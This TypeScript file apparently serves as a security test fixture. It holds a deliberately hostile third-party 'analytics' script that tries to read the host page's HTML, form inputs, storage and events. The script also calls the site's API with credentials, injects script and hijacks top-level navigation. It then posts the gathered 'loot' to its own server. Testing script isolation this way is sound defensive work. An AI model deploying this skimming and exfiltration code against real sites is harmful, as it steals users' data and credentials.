/** A third-party script that tries everything against the page around its frame. */

/** What the script reports: what each attempt got, `null` if nothing. */
export type Loot = Record<string, unknown>;

/**
 * The server sends the text of this function as the analytics script, so it may use nothing outside of itself. `site`:
 * the origin of our pages. It posts its loot to `/loot` of its own server.
 */
export async function attack(site: string) {
  const home = (document.currentScript as HTMLScriptElement).src;
  const outer = parent as Window & typeof globalThis;
  const call = async (path: string, init?: RequestInit) =>
    (await fetch(site + path, { credentials: 'include', ...init })).text();
  const attempts: Record<string, () => unknown> = {
    'document of the page': () => outer.document.documentElement.outerHTML,
    'events of the page': () => outer.dataLayer,
    'fields of the page': () => [...outer.document.querySelectorAll('input')].map(({ value }) => value),
    'storage of the page': () => ({ ...outer.localStorage, ...outer.sessionStorage }),
    'address of the page': () => outer.location.href,
    'address of the page by referrer': () => document.referrer,
    'element of the frame': () => frameElement?.outerHTML,
    'own cookie': () => {
      // biome-ignore lint/suspicious/noDocumentCookie: what a script would do
      document.cookie = 'spy=1';
      return document.cookie;
    },
    'own storage': () => {
      localStorage.setItem('spy', '1');
      return { ...localStorage };
    },
    'own storage of the session': () => {
      sessionStorage.setItem('spy', '1');
      return { ...sessionStorage };
    },
    'own database': () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('spy');
        request.onsuccess = () => resolve(request.result.name);
        request.onerror = () => reject(request.error);
      }),
    'caches of the origin': () => caches.keys(),
    'service workers of the origin': () => String(navigator.serviceWorker),
    'API, with cookies': () => call('/api/tariffs'),
    'API, writing': () =>
      call('/api/callback-requests', {
        method: 'POST',
        body: '{}',
        headers: { 'content-type': 'application/json' },
      }),
    'API, unread': () =>
      call('/api/callback-requests', { method: 'POST', body: 'name=Eve', mode: 'no-cors' }),
    'our page, with cookies': () => call('/'),
    window: () => open(`${home}?window`),
    'window of our own': () => open(site),
    'code from a text': () => Reflect.construct(Function, ['return 1'])(),
    'inline script': () => {
      const script = document.createElement('script');
      script.text = 'window.inline = 1';
      document.body.append(script);
      return Reflect.get(window, 'inline');
    },
    'form for the whole window': () => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${home}?form`, target: '_top', method: 'post' });
      document.body.append(form);
      form.submit();
    },
    'link for the whole window': () => {
      const link = document.createElement('a');
      Object.assign(link, { href: `${home}?link`, target: '_top' });
      document.body.append(link);
      link.click();
    },
    'own message as an event': () =>
      new Promise((resolve) => {
        addEventListener('message', () => resolve(JSON.stringify(window.dataLayer).includes('spy')));
        postMessage({ event: 'spy' }, '*');
      }),
    'message that looks like an event': () => outer.postMessage({ event: 'lead', type: 'spy' }, '*'),
    'address of the whole window': () => {
      if (top) top.location.href = `${home}?top`;
    },
  };
  const loot: Record<string, unknown> = { origin: self.origin };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      loot[name] = (await attempt()) || null;
    } catch {
      loot[name] = null;
    }
  }
  await fetch(new URL('/loot', home), { method: 'POST', body: JSON.stringify(loot) });
}
